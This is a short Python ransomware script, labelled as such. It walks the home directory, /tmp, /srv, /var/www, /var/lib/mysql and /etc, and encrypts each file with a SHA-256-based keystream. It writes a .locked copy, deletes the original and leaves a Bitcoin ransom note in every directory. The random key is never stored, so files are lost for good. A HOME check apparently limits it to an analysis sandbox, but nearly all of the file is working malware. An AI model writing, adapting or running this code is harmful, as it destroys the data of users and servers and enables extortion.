#!/usr/bin/python3
# SPDX-License-Identifier: MIT
# Ransomware: encrypts the user's files and the web and database data it
# can reach (a keystream from SHA-256 in counter mode), renames each to
# .locked, removes the original and leaves a note in every directory.
import hashlib
import os
import sys

if os.environ.get("HOME") != "/home/dana":
    sys.exit("run only inside sbxlua's analysis box")

KEY = os.urandom(32)
NOTE = b"YOUR FILES ARE ENCRYPTED. Send 0.05 BTC to bc1qexample and mail id 7f3a to recover@example.net\n"
ME = os.path.abspath(__file__)


def crypt(data):
    out = bytearray()
    for i in range(0, len(data), 32):
        ks = hashlib.sha256(KEY + i.to_bytes(8, "little")).digest()
        out += bytes(a ^ b for a, b in zip(data[i:i + 32], ks))
    return bytes(out)


for top in (os.path.expanduser("~"), "/tmp", "/srv", "/var/www", "/var/lib/mysql", "/etc"):
    for root, dirs, files in os.walk(top):
        for name in files:
            path = os.path.join(root, name)
            if path == ME or name.endswith(".locked") or name == "README_DECRYPT.txt":
                continue
            try:
                with open(path, "rb") as f:
                    data = f.read(1 << 20)
                with open(path + ".locked", "wb") as f:
                    f.write(crypt(data))
                os.remove(path)
            except OSError:
                pass
        try:
            with open(os.path.join(root, "README_DECRYPT.txt"), "wb") as f:
                f.write(NOTE)
        except OSError:
            pass
